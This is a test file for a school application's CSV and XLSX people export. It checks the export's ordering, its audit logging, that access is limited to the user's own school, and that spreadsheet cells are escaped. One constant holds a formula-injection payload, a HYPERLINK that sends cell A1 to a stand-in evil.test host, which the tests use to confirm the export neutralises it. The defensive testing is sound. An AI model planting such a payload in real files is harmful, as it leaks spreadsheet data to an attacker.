import { execFile } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdtemp, readFile, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { strFromU8, unzipSync } from "fflate";
import { afterAll, beforeAll, expect, it } from "vitest";
import { contextFor, number, withRows } from "#testing/context.ts";
import { type TestDatabase, testDatabase } from "#testing/database.ts";
import type { Context } from "../context.ts";
import { exportPeople } from "./export-people.ts";
import { listPeople } from "./list-people.ts";

const OFFICE = "/usr/bin/soffice";
const NASTY = `=HYPERLINK("https://evil.test?"&A1,"ver") <&>"; 'x'`;

let database: TestDatabase;
let head: Context;

beforeAll(async () => {
  database = await testDatabase({ seeded: true });
  head = await contextFor(database, "head@demo.eduai.test");
  await withRows(database, (query) =>
    query(
      `update users.users set family_name = $1, phone = '+34 600 000 000', username = '@suma', identifier = '007'
       where email = 'teacher@demo.eduai.test'`,
      [NASTY],
    ),
  );
});
afterAll(() => database?.drop());

type Asked = Partial<Parameters<typeof exportPeople>[1]>;
async function bytesOf(format: "csv" | "xlsx", asked: Asked = {}) {
  const { body, fileName } = await exportPeople(head, { format, state: "active", sort: "familyName", ...asked });
  expect(fileName).toMatch(new RegExp(`^personas-\\d{4}-\\d\\d-\\d\\d\\.${format}$`));
  return new Uint8Array(await new Response(body).arrayBuffer());
}

/** Cells as LibreOffice shows them when it opens the file. */
async function opened(bytes: Uint8Array, format: "csv" | "xlsx"): Promise<string[][]> {
  const folder = await mkdtemp(join(tmpdir(), "eduai-export-"));
  const file = join(folder, `people.${format}`);
  await writeFile(file, bytes);
  const filter = format === "csv" ? ["--infilter=CSV:59,34,76,1"] : [];
  const options = ["--headless", `-env:UserInstallation=file://${folder}/profile`, ...filter];
  const out = ["--convert-to", "csv:Text - txt - csv (StarCalc):9,0,76", "--outdir", join(folder, "out"), file];
  await promisify(execFile)(OFFICE, [...options, ...out], { timeout: 120_000 });
  return (await readFile(join(folder, "out", "people.csv"), "utf8"))
    .split("\n")
    .filter((line) => line !== "")
    .map((line) => line.split("\t"));
}

it("holds the people that the list shows, in its order, and stands in the log", async () => {
  for (const asked of [{}, { kind: "student" as const }, { search: "ana" }, { sort: "-familyName" as const }]) {
    const { data, total } = await listPeople(head, { limit: 200, state: "active", sort: "familyName", ...asked });
    const lines = new TextDecoder()
      .decode(await bytesOf("csv", asked))
      .trimEnd()
      .split("\r\n");
    expect(lines.length - 1, JSON.stringify(asked)).toBe(total);
    const plain = data.find(({ familyName }) => familyName !== NASTY);
    const at = data.findIndex(({ id }) => id === plain?.id);
    expect(lines[at + 1]).toContain(`${plain?.familyName};${plain?.givenName};`);
  }
  const text = "select count(*) from users.audit_logs where action = 'user.exported' and actor_user_id = $1";
  expect(await number(database, text, [head.actor.userId])).toBe(4);
});

it("is of one's own school, and only for who may see people", async () => {
  const other = await contextFor(database, "head@otra.eduai.test");
  const { body } = await exportPeople(other, { format: "csv", state: "all", sort: "familyName" });
  expect(await new Response(body).text()).not.toContain("teacher@demo");
  const teacher = await contextFor(database, "teacher@demo.eduai.test");
  await expect(exportPeople(teacher, { format: "csv", state: "all", sort: "familyName" })).rejects.toMatchObject({
    code: "forbidden",
  });
});

it("has no cell that a spreadsheet would run", async () => {
  const csv = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await bytesOf("csv", { search: "teacher@demo" }));
  expect(csv.startsWith("\uFEFFApellidos;Nombre;")).toBe(true);
  expect(csv).toContain(`"'=HYPERLINK(""https://evil.test?""&A1,""ver"") <&>""; 'x'"`);
  for (const cell of ["'@suma", "'+34 600 000 000"]) expect(csv).toContain(`;${cell};`);
  const files = unzipSync(await bytesOf("xlsx", { search: "teacher@demo" }));
  const sheet = strFromU8(files["xl/worksheets/sheet1.xml"] ?? new Uint8Array());
  expect(sheet).not.toMatch(/<f[ >]/);
  expect(sheet.match(/<c [^>]*>/g)?.every((cell) => cell.includes('t="inlineStr"'))).toBe(true);
});

it.skipIf(!existsSync(OFFICE))(
  "opens in LibreOffice as what was written",
  async () => {
    const [head1, row] = await opened(await bytesOf("xlsx", { search: "teacher@demo" }), "xlsx");
    expect(head1?.slice(0, 3)).toEqual(["Apellidos", "Nombre", "Segundo nombre"]);
    expect(row?.[0]?.replaceAll('""', '"')).toContain(NASTY.slice(0, 30));
    expect(row).toEqual(expect.arrayContaining(["+34 600 000 000", "@suma", "007", "teacher@demo.eduai.test"]));
    const [, inCsv] = await opened(await bytesOf("csv", { search: "teacher@demo" }), "csv");
    expect(inCsv?.[0]).toContain("'=HYPERLINK");
    expect(inCsv).toContain("'+34 600 000 000");
  },
  240_000,
);
